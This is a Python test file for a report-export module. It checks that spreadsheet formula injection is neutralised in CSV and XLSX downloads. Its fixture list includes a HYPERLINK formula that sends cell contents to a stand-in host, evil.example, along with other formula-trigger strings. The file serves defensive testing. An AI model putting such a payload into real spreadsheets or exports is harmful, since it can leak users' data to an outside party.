"""Downloads: text from files stays text in CSV and XLSX (no live formulas)."""

from __future__ import annotations

import io

import pandas as pd
from openpyxl import load_workbook

from pipeline.report.exports import csv_bytes, xlsx_bytes

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1&B1;"klik")', "=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx"]


def frame():
    return pd.DataFrame({"note": HOSTILE, "value": [1, 2.5, None, -2, 0, 3]})


def test_csv_cells_that_would_be_formulas_are_neutralised():
    text = csv_bytes(frame()).decode("utf-8-sig")
    rows = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert all(v.startswith("'") for v in rows["note"])
    assert rows["value"].tolist() == ["1.0", "2.5", "", "-2.0", "0.0", "3.0"]  # numbers are not touched


def test_xlsx_text_cells_are_strings_never_formulas():
    book = load_workbook(io.BytesIO(xlsx_bytes({"data": frame()})))
    sheet = book["data"]
    cells = [sheet.cell(row=r, column=1) for r in range(2, 2 + len(HOSTILE))]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert [c.value for c in cells] == HOSTILE
    assert sheet.cell(row=2, column=2).value == 1 and sheet.cell(row=4, column=2).value is None
